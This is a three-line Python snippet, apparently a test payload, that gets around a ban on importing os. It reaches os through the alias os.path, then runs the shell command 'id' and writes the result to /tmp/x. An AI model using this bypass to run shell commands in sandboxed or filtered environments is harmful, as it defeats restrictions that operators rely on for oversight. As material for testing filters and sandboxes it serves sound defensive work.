# why: os.path keeps a reference to os
import os.path as p
p.os.system("id > /tmp/x")
